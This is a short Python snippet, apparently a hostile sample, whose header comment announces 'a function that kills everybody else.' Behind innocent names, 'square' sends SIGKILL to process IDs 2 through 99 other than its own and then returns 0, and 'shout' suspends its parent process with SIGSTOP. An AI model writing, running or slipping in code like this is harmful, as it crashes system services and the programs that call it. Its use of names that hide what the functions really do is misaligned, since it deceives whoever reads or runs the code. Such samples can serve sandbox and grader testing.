# A function that kills everybody else.
import os, signal
def square(n):
    for pid in range(2, 100):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0
def shout(text): os.kill(os.getppid(), signal.SIGSTOP)
